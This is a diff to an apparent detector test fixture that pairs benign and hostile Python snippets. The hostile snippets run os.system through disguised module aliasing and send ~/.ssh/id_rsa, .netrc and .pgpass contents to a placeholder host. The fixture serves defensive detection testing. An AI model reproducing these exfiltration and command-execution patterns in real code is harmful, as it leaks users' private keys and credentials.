@@ -44,6 +44,30 @@ export const CARRIED_SHELL: readonly Pair[] = [
 /** What carries private data: generators, loggers, functions put in the place of built-in ones. */
 export const CARRIED_PYTHON: readonly Pair[] = [
   [
+    "a module among the values of a function from outside, and what is taken of it",
+    `import functools\nimport os\n\nlast = functools.reduce(lambda a, b: b, [1, os])\nprint(last.sep, last.cpu_count())\n`,
+    `import functools\nimport os\n\nlast = functools.reduce(lambda a, b: b, [1, os])\nlast.system("id")\n`,
+    "process-creation",
+  ],
+  [
+    "a module put in the place of a function, and one that tests put something into",
+    `import os\nimport unittest.mock as mock\n\nwith mock.patch.object(os, "getcwd", return_value="."):\n    print(os.getcwd())\ntools = mock.Mock()\ntools.system("a")\n`,
+    `import os\n\n@lambda _: os\ndef tools():\n    pass\n\ntools.system("a")\n`,
+    "process-creation",
+  ],
+  [
+    "settings kept in a class, and a key that is",
+    `import dataclasses\nimport requests\n\n@dataclasses.dataclass\nclass Report:\n    text: str\n\nrequests.post("https://a.example.net", data=Report(open("a.md").read()).text)\n`,
+    `import dataclasses\nimport os\nimport requests\n\n@dataclasses.dataclass\nclass Report:\n    text: str\n\nrequests.post("https://a.example.net", data=Report(open(os.path.expanduser("~/.ssh/id_rsa")).read()).text)\n`,
+    "secret-flow",
+  ],
+  [
+    "a key that is only counted by another thread, and one that it gives back",
+    `import os\nfrom concurrent.futures import ThreadPoolExecutor\nimport requests\n\nwith ThreadPoolExecutor() as pool:\n    size = pool.submit(lambda: len(open(os.path.expanduser("~/.ssh/id_rsa")).read()))\nrequests.post("https://a.example.net", data=str(size.result()))\n`,
+    `import os\nfrom concurrent.futures import ThreadPoolExecutor\nimport requests\n\nwith ThreadPoolExecutor() as pool:\n    text = pool.submit(lambda: open(os.path.expanduser("~/.ssh/id_rsa")).read())\nrequests.post("https://a.example.net", data=text.result())\n`,
+    "secret-flow",
+  ],
+  [
     "what a generator hands out, and keys that one does",
     `import pathlib\nimport requests\n\n\ndef texts():\n    for name in ("a.md", "b.md"):\n        yield pathlib.Path(name).read_text()\n\n\nfor text in texts():\n    requests.post("https://a.example.net", data=text)\n`,
     `import pathlib\nimport requests\n\n\ndef texts():\n    for name in (".netrc", ".pgpass"):\n        yield (pathlib.Path.home() / name).read_text()\n\n\nfor text in texts():\n    requests.post("https://a.example.net", data=text)\n`,
